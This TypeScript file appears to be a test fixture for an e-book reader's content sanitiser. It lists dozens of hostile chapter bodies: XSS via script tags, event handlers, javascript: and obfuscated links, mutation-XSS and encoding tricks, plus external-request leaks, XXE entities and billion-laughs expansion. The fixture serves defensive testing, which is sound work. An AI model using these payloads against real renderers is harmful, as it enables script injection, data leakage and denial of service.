import { hit } from './hostile-book.ts';

/**
 * Bodies of a chapter, or whole files where they begin with a declaration. What has the id `go` is pressed. `@OWN@` and
 * `@OUT@` become our own origin and somebody else's; `evil.js`, `evil.css` and `evil.svg` lie beside the chapter.
 */
export const scriptedChapters: Readonly<Record<string, string>> = {
  'a script element': `<script>${hit}</script>`,
  'a script of the book': '<script src="evil.js"></script>',
  'a module of the book': '<script type="module" src="evil.js"></script><link rel="modulepreload" href="evil.js"/>',
  'a module in an import map': `<script type="importmap">{"imports":{"x":"./evil.js"}}</script><script type="module">import 'x';</script>`,
  'a script from outside': '<script src="@OUT@/x.js"></script>',
  'a script with a prefix of its own': `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${hit}</h:script>`,
  'a page with a prefix of its own': `<?xml version="1.0"?><h:html xmlns:h="http://www.w3.org/1999/xhtml" xmlns:s="http://www.w3.org/2000/svg" onload="${hit}"><h:head><h:base href="@OUT@/"/><h:script>${hit}</h:script></h:head><h:body onload="${hit}"><h:p onclick="${hit}" id="go">x</h:p><h:iframe srcdoc="&lt;script&gt;${hit}&lt;/script&gt;"/><h:form action="@OUT@/f"><h:input autofocus="autofocus" onfocus="${hit}"/></h:form><s:svg onload="${hit}"><s:script>${hit}</s:script><s:a href="javascript:${hit}"><s:set attributeName="href" to="javascript:${hit}"/><s:text y="20">y</s:text></s:a></s:svg></h:body></h:html>`,
  'a script in capitals': `<SCRIPT xmlns="http://www.w3.org/1999/xhtml">${hit}</SCRIPT>`,
  'a script in a template': `<template><script>${hit}</script><img src="x" onerror="${hit}"/></template>`,
  'a shadow declared': `<div><template shadowrootmode="open"><img src="x" onerror="${hit}"/><script>${hit}</script></template></div>`,
  'a script in formulas': `<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><script xmlns="http://www.w3.org/1999/xhtml">${hit}</script></mtext><annotation-xml encoding="text/html"><script>${hit}</script></annotation-xml></math>`,
  'a formula that is a link': `<math xmlns="http://www.w3.org/1998/Math/MathML"><mrow id="go" href="javascript:${hit}"><mi>x</mi></mrow><maction actiontype="statusline#@OUT@/s" xlink:href="javascript:${hit}" xmlns:xlink="http://www.w3.org/1999/xlink"><mi>y</mi></maction></math>`,
  'handlers of pictures': `<img src="nothing.png" onerror="${hit}"/><img src="evil.svg" onload="${hit}"/>`,
  'handlers of the pointer': `<p id="go" onclick="${hit}" onmouseover="${hit}" onpointerdown="${hit}" ontouchstart="${hit}">x</p>`,
  'handlers of details': `<details open="open" ontoggle="${hit}"><summary id="go">x</summary></details>`,
  'handlers of films': `<video src="nothing.mp4" onerror="${hit}"><source src="x" onerror="${hit}"/></video><audio src="x" onerror="${hit}"></audio>`,
  'handlers of animation': `<style>@keyframes a { from { opacity: 0 } } p { animation: a 10ms; transition: opacity 1ms }</style><p onanimationstart="${hit}" onanimationend="${hit}" ontransitionend="${hit}">x</p>`,
  'handlers of focus': `<p tabindex="0" id="go" autofocus="autofocus" onfocus="${hit}" onblur="${hit}" onfocusin="${hit}">x</p>`,
  'handlers of scrolling': `<div onscroll="${hit}" onwheel="${hit}" style="height:9px;overflow:scroll"><p onbeforematch="${hit}" oncontentvisibilityautostatechange="${hit}" style="content-visibility:auto">x</p></div>`,
  'handlers of the body': `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body onload="${hit}" onpageshow="${hit}" onresize="${hit}" onhashchange="${hit}" onmessage="${hit}"><p id="go">x</p></body></html>`,
  'a handler of the root': `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml" onclick="${hit}" onload="${hit}"><head><title>x</title></head><body><p id="go">x</p></body></html>`,
  'a handler of an element nobody knows': `<x-y onclick="${hit}" id="go" is="x-y" style="display:block">x</x-y><xss autofocus="autofocus" tabindex="1" onfocus="${hit}">y</xss>`,
  'a handler in XML events': `<p xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="javascript:${hit}" id="go">x</p>`,
  'a trigger of EPUB': `<epub:trigger xmlns:epub="http://www.idpf.org/2007/ops" xmlns:ev="http://www.w3.org/2001/xml-events" action="show" ev:observer="go" ev:event="click" ref="b"/><p id="go">x</p>`,
  'a link that is a script': `<p><a id="go" href="javascript:${hit}">x</a></p>`,
  'a link that hides its script': `<p><a id="go" href="&#9;java&#10;script&#58;${hit}">x</a></p>`,
  'a link with a control before its script': `<p><a id="go" href="&#x9;&#xA;JaVaScRiPt:${hit}">x</a></p>`,
  'a link that is a document': `<p><a id="go" href="data:text/html,&lt;script&gt;${hit}&lt;/script&gt;">x</a></p>`,
  'a link that speaks for the reader': '<p><a id="go" data-libro-external="intent:x" data-libro-link="{">x</a></p>',
  'a link to a blob': '<p><a id="go" href="blob:@OWN@/0">x</a></p>',
  'a link to a script of old browsers': `<p><a id="go" href="vbscript:x">x</a> <a href="livescript:${hit}">y</a> <a href="mocha:${hit}">z</a></p>`,
  'an area that is a script': `<map name="m"><area id="go" shape="default" href="javascript:${hit}"/></map><img usemap="#m" src="evil.svg" width="90" height="90"/>`,
  'a link that leaves the frame': '<p><a id="go" target="_top" href="@OWN@/api/top">x</a></p>',
  'a link that opens a window': '<p><a id="go" target="_blank" rel="opener" href="@OWN@/api/window">x</a></p>',
  'a link that tells others':
    '<p><a id="go" href="#b" ping="@OWN@/api/ping @OUT@/ping" attributionsrc="@OUT@/a">x</a></p><p id="b">y</p>',
  'a link that downloads': '<p><a id="go" download="x.exe" href="@OWN@/api/download">x</a></p>',
  'a frame that is a script': `<iframe src="javascript:${hit}"></iframe>`,
  'a frame with its own document': `<iframe srcdoc="&lt;script&gt;${hit}&lt;/script&gt;"></iframe>`,
  'a frame of the book': '<iframe src="evil.svg"></iframe><frame src="evil.svg"/>',
  'a frame of our own': '<iframe src="@OWN@/api/frame"></iframe><fencedframe src="@OWN@/api/fenced"></fencedframe>',
  'a frame from outside': '<iframe src="@OUT@/frame"></iframe><portal src="@OUT@/portal"></portal>',
  'a frame in old HTML': '<!DOCTYPE html><html><frameset><frame src="@OUT@/frameset"></frameset></html>',
  plugins: `<object data="evil.svg" type="image/svg+xml"></object><embed src="evil.svg"/><applet code="x"></applet>`,
  'plugins from outside':
    '<object data="@OWN@/api/object"><param name="movie" value="@OUT@/m"/></object><embed src="@OUT@/embed"/>',
  'a form that sends itself': `<form id="f" action="@OWN@/api/form" method="post"><input name="a" value="1" autofocus="autofocus" onfocus="${hit}"/><button id="go">x</button></form>`,
  'a key of a form that is elsewhere': `<form id="f" action="@OWN@/api/form"></form><button id="go" form="f" formaction="javascript:${hit}">x</button><input type="image" src="@OUT@/i" formaction="@OWN@/api/fa"/>`,
  'a form that opens a window': '<form action="@OUT@/form" target="_blank"><input type="submit" id="go"/></form>',
  'a dialog and a popover': `<dialog open="open" onclose="${hit}"><form method="dialog"><button id="go">x</button></form></dialog><button popovertarget="p">y</button><p id="p" popover="auto" onbeforetoggle="${hit}">z</p>`,
  'a selection that is drawn by the book': `<select onchange="${hit}"><option>x</option></select><textarea oninput="${hit}">y</textarea><p contenteditable="true" oninput="${hit}">z</p>`,
  'names that hide the document':
    '<img name="body" src="p.svg"/><img name="getElementById" src="p.svg"/><form name="fonts"><input name="ready"/></form><p id="documentElement">x</p><p id="defaultView">y</p><p name="querySelector" id="createElement">z</p>',
  'mutation on the way': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hit}&gt;"/></mglyph></table></mtext></math><svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p xmlns="http://www.w3.org/1999/xhtml" onclick="${hit}">x</p></foreignObject><style><![CDATA[</style><img src=x onerror=${hit}>]]></style></svg>`,
  'mutation by comments': `<!DOCTYPE html><html><body><!--><img src=x onerror="${hit}">--><!--!><img src=x onerror="${hit}"><p title="--!><img src=x onerror=${hit}>">x</p></body></html>`,
  'mutation by tables': `<!DOCTYPE html><html><body><table><a href="javascript:${hit}" id="go"><td>x</td></a><select><template><img src=x onerror="${hit}"></template></select></table></body></html>`,
  'mutation by depth': `${'<div>'.repeat(600)}<math><mtext><h1><a><h6><a><style><title></style><img title="&lt;/title&gt;&lt;img src=x onerror=${hit}&gt;"/></a></h6></a></h1></mtext></math>${'</div>'.repeat(600)}`,
  'old HTML that is not XML': `<!DOCTYPE html><html><body onload="${hit}"><p>x<p>y<img src=x onerror="${hit}"><script>${hit}</script><noscript><p title="</noscript><img src=x onerror=${hit}>"></noscript></body></html>`,
  'a chapter in another encoding': `<?xml version="1.0" encoding="UTF-7"?><html xmlns="http://www.w3.org/1999/xhtml"><body>+ADw-script+AD4-${hit}+ADw-/script+AD4-<p>x</p></body></html>`,
  'a character that is no character': `<!DOCTYPE html><html><body><img\u000Bsrc=x\u000Conerror="${hit}"><scr\u0000ipt>${hit}</scr\u0000ipt><p>x</p></body></html>`,
  'an XSLT sheet': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="evil.xsl"?><html xmlns="http://www.w3.org/1999/xhtml"><body><p>x</p></body></html>`,
};

export const askingChapters: Readonly<Record<string, string>> = {
  'a picture from outside':
    '<img src="@OUT@/img"/><img src="//localhost/none.png"/><input type="image" src="@OUT@/input"/>',
  'a picture of our own': '<img src="@OWN@/api/img"/>',
  'pictures to choose from, written close':
    '<img srcset="evil.svg 1x,@OUT@/1 2x"/><img srcset="evil.svg 1x(,@OUT@/2 2x"/><img srcset=",,data:image/png;base64,AA==, @OUT@/3 3x,@OWN@/api/4"/>',
  'pictures to choose from':
    '<img srcset="@OUT@/1 1x, @OWN@/api/2 2x" sizes="100vw"/><picture><source srcset="@OUT@/source"/><img src="x.png"/></picture>',
  'a picture that is lazy':
    '<img loading="lazy" src="@OUT@/lazy"/><img loading="eager" fetchpriority="high" crossorigin="use-credentials" src="@OWN@/api/eager"/>',
  'old pictures':
    '<table background="@OUT@/table"><tr><td background="@OUT@/td">x</td></tr></table><img lowsrc="@OUT@/low" dynsrc="@OUT@/dyn" longdesc="@OUT@/long"/>',
  'a film from outside': '<video poster="@OUT@/poster" src="@OUT@/video" autoplay="autoplay" preload="auto"></video>',
  'a film of many sources':
    '<video autoplay="autoplay"><source src="@OUT@/1.mp4"/><source src="@OWN@/api/2.webm"/><track default="default" src="@OUT@/t.vtt"/></video>',
  'a sound from outside':
    '<audio src="@OUT@/audio" autoplay="autoplay" preload="auto"></audio><bgsound src="@OUT@/bg"/>',
  'a sheet from outside':
    '<link rel="stylesheet" href="@OUT@/x.css"/><link rel="alternate stylesheet" title="x" href="@OWN@/api/x.css"/>',
  'hints to the browser':
    '<link rel="preload" as="image" href="@OUT@/preload"/><link rel="prefetch" href="@OUT@/prefetch"/><link rel="prerender" href="@OUT@/prerender"/>',
  'a line opened beforehand': '<link rel="preconnect" href="@OUT@"/><link rel="dns-prefetch" href="@OUT@"/>',
  'pages opened beforehand':
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["@OUT@/s"]}],"prerender":[{"urls":["@OWN@/api/s"]}]}</script>',
  'an icon and a manifest':
    '<link rel="icon" href="@OUT@/icon"/><link rel="apple-touch-icon" href="@OUT@/apple"/><link rel="manifest" href="@OUT@/manifest"/>',
  'a refresh':
    '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title><meta http-equiv="refresh" content="0; url=@OUT@/refresh"/></head><body><p>x</p></body></html>',
  'a refresh in the body': '<meta http-equiv="refresh" content="0; url=@OWN@/api/refresh"/><p>x</p>',
  'a base': '<base href="@OUT@/"/><img src="base.png"/><a href="x" target="_top" id="go">x</a>',
  'a base by XML': '<div xml:base="@OUT@/"><img src="xmlbase.png"/></div>',
  'a policy of its own':
    '<meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\'"/><meta http-equiv="Set-Cookie" content="a=1"/><meta http-equiv="origin-trial" content="x"/><img src="@OUT@/policy"/>',
  'a report to somebody':
    '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; report-uri @OUT@/report"/><p style="color:red">x</p>',
  'an outer entity':
    '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "@OWN@/api/entity"><!ENTITY % y SYSTEM "@OUT@/param"> %y;]><html xmlns="http://www.w3.org/1999/xhtml"><body><p>a&x;b</p></body></html>',
  'an outer definition':
    '<?xml version="1.0"?><!DOCTYPE html SYSTEM "@OUT@/x.dtd"><html xmlns="http://www.w3.org/1999/xhtml"><body><p>x</p></body></html>',
  'an XML sheet':
    '<?xml version="1.0"?><?xml-stylesheet href="@OUT@/pi.css" type="text/css"?><html xmlns="http://www.w3.org/1999/xhtml"><body><p>x</p></body></html>',
  XInclude:
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="@OUT@/include"><xi:fallback><img src="@OUT@/fallback"/></xi:fallback></xi:include>',
  'quotations with sources':
    '<blockquote cite="@OUT@/cite"><p>x</p></blockquote><ins cite="@OUT@/ins">y</ins><html:head xmlns:html="x" profile="@OUT@/profile"/>',
  'the ten thousand laughs of an entity': `<?xml version="1.0"?><!DOCTYPE html [<!ENTITY l0 "ja">${Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')}]><html xmlns="http://www.w3.org/1999/xhtml"><body><p>antes &l9; después</p></body></html>`,
  'one long entity many times': `<?xml version="1.0"?><!DOCTYPE html [<!ENTITY a "${'a'.repeat(50_000)}">]><html xmlns="http://www.w3.org/1999/xhtml"><body><p>${'&a;'.repeat(2_000)}</p></body></html>`,
};
